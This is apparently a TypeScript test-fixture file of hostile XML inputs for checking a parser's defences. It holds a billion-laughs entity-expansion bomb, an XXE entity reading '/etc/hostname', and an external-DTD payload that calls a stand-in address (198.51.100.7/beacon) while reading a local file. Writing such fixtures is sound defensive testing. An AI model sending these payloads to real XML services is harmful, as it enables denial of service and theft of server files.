/** A document that is made to end whoever reads it. */
export interface Bomb {
  /** With the ending of its kind. */
  readonly name: string;
  readonly make: () => Buffer;
}

/** A file that no document may bring in, and an address that none may ask. */
export const secretFile = '/etc/hostname';
export const elsewhere = 'http://198.51.100.7/beacon';

/** Entities in entities: a thousand million words of a few hundred letters. */
export const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${[...'bcdefghij']
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
  .join('')}]>`;
export const outsideEntity = `<!DOCTYPE x [<!ENTITY s SYSTEM "file://${secretFile}">]>`;
export const outsideList = `<!DOCTYPE x SYSTEM "${elsewhere}.dtd" [<!ENTITY % p SYSTEM "file://${secretFile}">%p;]>`;
